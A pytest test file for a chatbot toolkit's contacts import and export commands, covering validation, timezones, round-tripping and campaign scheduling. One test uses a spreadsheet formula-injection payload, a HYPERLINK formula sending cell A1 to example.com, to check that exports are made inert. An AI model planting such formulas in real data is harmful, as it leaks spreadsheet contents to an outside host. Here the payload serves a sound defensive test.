"""`botkit contacts import` and `export`: upsert by number, fields read as their kind,
bad rows reported by line with the good ones kept, and an export that imports back."""

from __future__ import annotations

import asyncio
import csv
import io
import os
from pathlib import Path

import pytest

from botkit.cli import main
from botkit.db import Database
from botkit.migrations import migrate
from botkit.store import Store

pytestmark = pytest.mark.backends

BOT = """
from datetime import date, datetime
from botkit import Bot

bot = Bot("dental", fields={"appointment_at": datetime, "clinic": str, "visits": int,
                            "reminders": bool, "born": date})
"""


@pytest.fixture
def folder(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, database: str) -> Path:
    """A project folder with a bot declaring fields, its database `database`."""
    for name in [name for name in os.environ if name.startswith("BOTKIT_")]:
        monkeypatch.delenv(name)
    monkeypatch.chdir(tmp_path)
    (tmp_path / "bots").mkdir()
    (tmp_path / "bots" / "dental.py").write_text(BOT)
    monkeypatch.setenv("BOTKIT_DB", database)
    monkeypatch.setenv("BOTKIT_TIMEZONE", "Australia/Sydney")
    return tmp_path


def run(*argv: str) -> int:
    return main(["contacts", *argv])


def ledger(database: str) -> list[tuple]:
    async def read() -> list[tuple]:
        db = await Database.open(database)
        try:
            await migrate(db)
            rows = await db.fetchall(
                "SELECT handset, what, new, source, actor FROM contact_changes ORDER BY id"
            )
            return [tuple(row) for row in rows]
        finally:
            await db.close()

    return asyncio.run(read())


def contact(database: str, number: str):
    async def read():
        db = await Database.open(database)
        try:
            return await Store(db).contacts.get(number)
        finally:
            await db.close()

    return asyncio.run(read())


def test_import_keeps_good_rows_and_reports_bad_ones_by_line(folder, database, capsys):
    (folder / "people.csv").write_text(
        "number,name,appointment_at,visits,reminders,language\n"
        "+61400000001,Ana,2026-12-10 14:30,2,yes,es\n"
        "0400000002,Ben,,,,\n"
        "+61400000003,Cal,next week,,,\n"
        "+61400000004,Dee,,three,,\n"
        "+61400000005,Eve,,,,klingon language\n"
        "+61 400 000 001,Ana again,,,,\n"
        "+64211234567,Fay,2026-12-10 14:30,,no,\n"
        "+61400000006,Gus,0001-01-01 00:00,,,\n"
        f"+61400000007,Hal,,{'9' * 400},,\n"
    )
    assert run("import", "people.csv") == 1
    out, err = capsys.readouterr()
    assert "2 created, 0 updated, 0 unchanged, 0 already contacts" in out
    assert "7 bad rows" in out
    assert err.splitlines() == [
        "people.csv:3: number: '0400000002' is not in international format (+ and country code)",
        "people.csv:4: field 'appointment_at': 'next week' is not a date and time "
        "(YYYY-MM-DD HH:MM)",
        "people.csv:5: field 'visits': 'three' is not a whole number",
        "people.csv:6: language 'klingon language' is not a language code: give one such as "
        "'es', 'mi' or 'pt-br'",
        "people.csv:7: +61400000001 is on line 2 too",
        "people.csv:9: field 'appointment_at': datetime.datetime(1, 1, 1, 0, 0) is outside "
        "the years 1 to 9999 in UTC",
        f"people.csv:10: field 'visits': {'9' * 57}... is not a finite number of at most 1.8e+308",
    ]
    ana = contact(database, "+61400000001")
    assert (ana.name, ana.language, ana.fields["visits"], ana.fields["reminders"]) == (
        "Ana",
        "es",
        2,
        True,
    )
    # Each contact's naive time is its own: Sydney's for an Australian mobile, Auckland's
    # for a New Zealand one.
    assert ana.fields["appointment_at"].isoformat() == "2026-12-10T14:30:00+11:00"
    fay = contact(database, "+64211234567")
    assert fay.fields["appointment_at"].isoformat() == "2026-12-10T14:30:00+13:00"
    assert fay.fields["reminders"] is False
    assert ("+61400000001", "name", "Ana", "import", "people.csv") in ledger(database)


def test_a_contact_is_changed_only_with_update_and_blank_cells_change_nothing(
    folder, database, capsys
):
    (folder / "a.csv").write_text("number,name,clinic\n+61400000001,Ana,Newtown\n")
    (folder / "b.csv").write_text(
        "number,name,clinic\n+61400000001,,Glebe\n+61400000002,Ben,Newtown\n"
    )
    assert run("import", "a.csv") == 0
    assert run("import", "b.csv") == 0
    out = capsys.readouterr().out.splitlines()
    assert "1 created, 0 updated, 0 unchanged, 1 already contacts" in out[1]
    assert contact(database, "+61400000001").fields["clinic"] == "Newtown"
    assert run("import", "b.csv", "--update") == 0
    assert "0 created, 1 updated, 1 unchanged" in capsys.readouterr().out
    ana = contact(database, "+61400000001")
    assert (ana.name, ana.fields["clinic"]) == ("Ana", "Glebe")


def test_an_unknown_column_is_refused_before_any_row(folder, database, capsys):
    (folder / "people.csv").write_text("number,name,apointment_at\n+61400000001,Ana,x\n")
    assert run("import", "people.csv") == 2
    err = capsys.readouterr().err
    assert "'apointment_at' unknown" in err
    assert "appointment_at, born, clinic, reminders, visits" in err
    assert ledger(database) == []


def test_export_writes_what_import_reads_back(folder, database, capsys, tmp_path):
    (folder / "people.csv").write_text(
        "number,name,timezone,appointment_at,born,visits,reminders\n"
        '+61400000001,"Ana, María",Australia/Perth,2026-12-10 14:30,1990-02-03,2,yes\n'
        "+64211234567,Fay,,,,,\n"
    )
    assert run("import", "people.csv") == 0
    assert run("export", "--output", "out.csv") == 0
    exported = (folder / "out.csv").read_text()
    assert list(csv.reader(io.StringIO(exported))) == [
        ["number", "name", "language", "timezone", "appointment_at", "born", "reminders", "visits"],
        [
            "+61400000001",
            "Ana, María",
            "",
            "Australia/Perth",
            "2026-12-10T14:30+08:00",
            "1990-02-03",
            "true",
            "2",
        ],
        ["+64211234567", "Fay", "", "", "", "", "", ""],
    ]
    capsys.readouterr()
    assert run("export") == 0
    assert capsys.readouterr().out.replace("\r\n", "\n") == exported.replace("\r\n", "\n")
    # Read back into the same database, nothing changes.
    assert run("import", "out.csv", "--update") == 0
    assert "0 created, 0 updated, 2 unchanged" in capsys.readouterr().out


def test_export_makes_a_formula_inert_and_import_reads_it_back(folder, database, capsys):
    """A name a handset texted may be a spreadsheet formula: the export writes it as
    text (a leading '), and the import reads back the name it was."""
    formula = "=HYPERLINK('http://example.com/?'&A1)"
    (folder / "people.csv").write_text(f"number,name\n+61400000001,{formula}\n")
    assert run("import", "people.csv") == 0
    assert run("export", "--output", "out.csv") == 0
    rows = list(csv.reader(io.StringIO((folder / "out.csv").read_text())))
    assert rows[1][:2] == ["+61400000001", "'" + formula]
    capsys.readouterr()
    assert run("import", "out.csv", "--update") == 0
    assert "0 created, 0 updated, 1 unchanged" in capsys.readouterr().out
    assert contact(database, "+61400000001").name == formula


def test_an_import_plans_the_campaigns_of_what_it_sets(folder, database, capsys):
    (folder / "bots" / "dental.py").write_text(
        BOT
        + """
from botkit import Campaign

Campaign("appointments", field="appointment_at").event(
    days=-1, at="09:00", template="dental/reminder.txt"
).attach(bot)
"""
    )
    (folder / "people.csv").write_text(
        "number,appointment_at\n+61400000001,2099-12-10 14:30\n+61400000002,2000-01-01 10:00\n"
    )
    assert run("import", "people.csv") == 0

    async def pending() -> list[tuple]:
        db = await Database.open(database)
        try:
            rows = await db.fetchall(
                "SELECT handset, name, due_at FROM timers WHERE state = 'pending'"
            )
            return [tuple(row) for row in rows]
        finally:
            await db.close()

    # The day before, at 09:00 in Sydney; an appointment long past plans nothing.
    assert asyncio.run(pending()) == [
        ("+61400000001", "campaign:appointments:0", "2099-12-08T22:00:00.000000Z")
    ]
